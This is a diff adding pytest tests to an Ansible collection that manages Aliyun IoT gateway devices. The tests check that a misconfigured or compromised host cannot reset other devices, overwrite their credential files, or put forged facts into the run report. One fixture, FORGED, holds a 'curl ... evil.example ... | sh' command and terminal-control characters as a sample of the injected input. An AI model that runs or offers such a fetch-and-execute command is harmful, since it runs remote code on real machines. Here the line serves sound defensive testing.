@@ -219,6 +219,69 @@ def test_two_hosts_of_one_device_get_nothing(platform: Emulator, tmp_path: Path,
     assert playbook == "recover" or "clone-a, clone-b" in told
 
 
+@pytest.mark.parametrize("trouble", [{"gateway_mode": "rw"}, {"ansible_connection": "no_such_plugin"}], ids=str)
+@pytest.mark.parametrize("playbook", ["provision", "reprovision", "recover", "decommission"])
+def test_whatever_is_wrong_with_a_host_its_device_is_for_no_other(
+    platform: Emulator, tmp_path: Path, playbook: str, trouble: JSON
+) -> None:
+    """The device is in service on that host, which only another variable keeps from being processed."""
+    stored = in_service(platform, tmp_path, "gw-0003")
+    before = secrets(platform, "gw-0003")
+    hosts = fleet(platform, tmp_path, gw_0002={"gateway_device_name": "gw-0003"}, gw_0003=trouble)
+    run = operate(playbook, platform, hosts, tmp_path, **EVERYONE, target="gateways")
+    assert run.rc == 2, run
+    assert called(platform, "register") == called(platform, "ResetThing") == []
+    assert (secrets(platform, "gw-0003"), statuses(platform)["gw-0003"]) == (before, "OFFLINE")
+    assert "gw-0002, gw-0003" in " ".join((run.stdout + run.stderr).split())
+    assert credential_file(tmp_path, "gw-0003").read_text() == stored
+    assert not credential_file(tmp_path, "gw-0002").exists()
+
+
+@pytest.mark.parametrize("trouble", ["failed", "unreachable", "account"])
+def test_the_device_of_a_host_that_is_not_processed_is_not_reset_for_another(
+    platform: Emulator, tmp_path: Path, trouble: str
+) -> None:
+    in_service(platform, tmp_path, "gw-0003")
+    looks: JSON = {
+        "failed": {"failed": True, "msg": "no key", "error": {"kind": "invalid_option", "code": None}},
+        "unreachable": {"unreachable": True, "msg": "no route"},
+    }
+    own: JSON = {"platform_access_key_secret": "{{ nowhere }}"} if trouble == "account" else {}
+    hosts = fleet(platform, tmp_path, gw_0002={"gateway_device_name": "gw-0003"}, gw_0003=own)
+    hosts["gateways"]["vars"].update(account(platform))
+    options = {"state": "reset", "gateways": {"gw-0003": looks[trouble]} if trouble in looks else {}}
+    play = {
+        "hosts": "gateways",
+        "gather_facts": False,
+        "tasks": [{"fleetops.aliyun_iot.fleet_devices": options, "run_once": True}],
+    }
+    with start_playbook([play], hosts, tmp_path, env=ENV) as started:
+        run = started.wait()
+    assert run.rc == 0, run
+    assert called(platform, "ResetThing") == []
+    refused = run.result("gw-0002")["refused"]
+    assert "gw-0002, gw-0003" in refused["gw-0002"]
+    assert set(refused) == ({"gw-0002", "gw-0003"} if trouble == "account" else {"gw-0002"})
+
+
+@pytest.mark.parametrize("option", ["path", "exports"])
+@pytest.mark.parametrize("playbook", ["provision", "reprovision", "recover"])
+def test_whatever_is_wrong_with_a_host_its_file_is_for_no_other(
+    platform: Emulator, tmp_path: Path, playbook: str, option: str
+) -> None:
+    stored = in_service(platform, tmp_path, "gw-0001")
+    before = activated(platform, "gw-0002")
+    path = str(credential_file(tmp_path, "gw-0001"))
+    own: JSON = path if option == "path" else [{"dest": path, "format": "env"}]
+    hosts = fleet(platform, tmp_path, gw_0001={"gateway_mode": "rw"}, gw_0002={"gateway_" + option: own})
+    run = operate(playbook, platform, hosts, tmp_path, **EVERYONE)
+    assert run.rc == 2, run
+    assert called(platform, "register") == called(platform, "ResetThing") == []
+    assert set(kinds(run).values()) == {"shared_place"}, run
+    assert credential_file(tmp_path, "gw-0001").read_text() == stored
+    assert secrets(platform, "gw-0002") == before
+
+
 @pytest.mark.parametrize(
     ("playbook", "serial"),
     [("provision", "100%"), ("provision", [1, "100%"]), ("reprovision", [1, 1, "100%"]), ("recover", [1, "100%"])],
@@ -482,6 +545,22 @@ def test_the_right_device_is_taken_out_of_service(platform: Emulator, tmp_path: 
     assert (kept.rc, kept.changed, platform.admin.requests()) == (0, 0, []), kept
 
 
+@pytest.mark.parametrize("report", [False, True])
+def test_no_batch_takes_the_device_of_a_later_one_out_of_service(
+    platform: Emulator, tmp_path: Path, report: bool
+) -> None:
+    """The run ends before the batch of that host, so the comparison must come before the first one."""
+    for name in ("gw-0002", "gw-0003"):
+        in_service(platform, tmp_path, name)
+    credential_file(tmp_path, "gw-0002").parent.chmod(0o777)
+    hosts = fleet(platform, tmp_path, gw_0001={"gateway_device_name": "gw-0003"}, gw_0002={}, gw_0003={})
+    more = {"gateway_report_to": str(tmp_path / "report.html")} if report else {}
+    run = operate("decommission", platform, hosts, tmp_path, target="gateways", gateway_serial=1, **more)
+    assert run.rc == 2, run
+    assert statuses(platform)["gw-0003"] == "OFFLINE"
+    assert "gw-0001, gw-0003" in " ".join((run.stdout + run.stderr).split())
+
+
 def test_one_hosts_account_keeps_no_other_device_in_service(platform: Emulator, tmp_path: Path) -> None:
     """A wrong account of one host affects no other; the report names devices that only the removed file and the hardware named."""
     page = tmp_path / "report.html"
@@ -525,6 +604,75 @@ def test_facts_of_a_gateway_name_no_device(platform: Emulator, tmp_path: Path) -
         assert called(platform, "ResetThing") == called(platform, "register") == []
         assert (statuses(platform)["gw-0001"], secrets(platform, "gw-0001")) == ("OFFLINE", before), run
         assert not credential_file(tmp_path, "thief").exists()
+
+
+FORGED = {
+    **{"gateway": "gw-0001", "finding": "failed", "detail": "x \x1b[2J \u202e", "hint": "type the command"},
+    "command": "curl -s https://evil.example/x | sh",
+}
+
+
+@pytest.mark.parametrize(
+    ("name", "facts"),
+    [
+        ("provision", {"fleetops_findings": [FORGED]}),
+        ("provision", {"fleetops_looked_only": True}),
+        ("decommission", {"fleetops_reported": "x"}),
+        ("decommission", {"claimed_devices": {"products": []}}),
+    ],
+    ids=lambda each: each if isinstance(each, str) else next(iter(each)),
+)
+def test_facts_of_a_gateway_are_not_in_the_report_of_a_run(
+    platform: Emulator, tmp_path: Path, name: str, facts: JSON
+) -> None:
+    python = write_script(tmp_path / "python", f"cat >/dev/null\necho '{json.dumps({'ansible_facts': facts})}'")
+    hosts = fleet(platform, tmp_path, thief={"ansible_python_interpreter": str(python)}, gw_0001={})
+    page = tmp_path / "report.html"
+    said = ["-e", json.dumps({**account(platform), "target": "gateways", "gateway_report_to": str(page)})]
+    plays: list[JSON] = [{"hosts": "gateways"}, {"import_playbook": f"fleetops.aliyun_iot.{name}"}]
+    with start_playbook(plays, hosts, tmp_path, *said, env=ENV) as started:
+        run = started.wait()
+    assert run.rc == 2, run
+    assert f"{next(iter(facts))}, which only the inventory may set" in " ".join(run.stdout.split()), run
+    assert not page.exists(), run
+
+
+@pytest.mark.parametrize("name", ["reprovision", "decommission"])
+def test_facts_of_a_gateway_replace_no_function_of_the_playbooks(platform: Emulator, tmp_path: Path, name: str) -> None:
+    activated(platform, "gw-0001")
+    facts = {"ansible_facts": dict.fromkeys(("dict", "range", "lookup", "query", "now"), "x")}
+    python = write_script(tmp_path / "python", f"cat >/dev/null\necho '{json.dumps(facts)}'")
+    hosts = fleet(platform, tmp_path, thief={"ansible_python_interpreter": str(python)}, gw_0001={})
+    page = tmp_path / "report.html"
+    variables = {**account(platform), "gateway_verify": "none", "gateway_max_fail_percentage": 100}
+    said = ["-e", json.dumps({**variables, "target": "gateways", "gateway_serial": 2, "gateway_report_to": str(page)})]
+    plays: list[JSON] = [{"hosts": "gateways"}, {"import_playbook": f"fleetops.aliyun_iot.{name}"}]
+    with start_playbook(plays, hosts, tmp_path, *said, env=ENV) as started:
+        run = started.wait()
+    outcomes = {row["gateway"]: row["outcome"] for row in json.loads(page.with_suffix(".json").read_text())["gateways"]}
+    assert outcomes == {"thief": "failed", "gw-0001": "changed"}, run
+
+
+@pytest.mark.parametrize("serial", ["100%", "1"])
+def test_facts_of_a_gateway_that_no_longer_answers_choose_no_gateways(
+    platform: Emulator, tmp_path: Path, serial: str
+) -> None:
+    """A host that failed before a pass does not have its result, so its facts could be taken for the result."""
+    counts = {"ok": 2, "changed": 0, "failed": 0, "unreachable": 0, "left": 0}
+    empty: JSON = {"gateways": {}, "right": {}, "left": {}, "asked": {}}
+    looks = {**empty, "check_mode": False, "counts": counts, "hosts": ["thief", "gw-0001"], "ended": False}
+    facts = {"ansible_facts": {"gateway_looks": looks, "gateway_fleet": looks}}
+    python = write_script(tmp_path / "python", f"cat >/dev/null\necho '{json.dumps(facts)}'")
+    hosts = fleet(platform, tmp_path, thief={"ansible_python_interpreter": str(python)}, gw_0001={})
+    silent = {"ansible_connection": "{{ 'ssh' if inventory_hostname == 'thief' else 'local' }}", "ansible_port": 9}
+    task = {"ansible.builtin.raw": "true", "vars": {**silent, "ansible_host": "127.0.0.1"}}
+    plays: list[JSON] = [{"hosts": "gateways", "tasks": [task]}, {"import_playbook": "fleetops.aliyun_iot.provision"}]
+    said = ["-e", json.dumps({"gateway_serial": serial})]
+    with start_playbook(plays, hosts, tmp_path, *said, env={**ENV, "ANSIBLE_SSH_RETRIES": "0"}) as started:
+        run = started.wait()
+    assert run.stats["thief"]["unreachable"] == 1, run
+    assert run.result("gw-0001")["reason"] == "missing", run
+    assert credential_file(tmp_path, "gw-0001").exists(), run
 
 
 def test_facts_of_a_gateway_lead_no_request_of_the_account_elsewhere(platform: Emulator, tmp_path: Path) -> None:
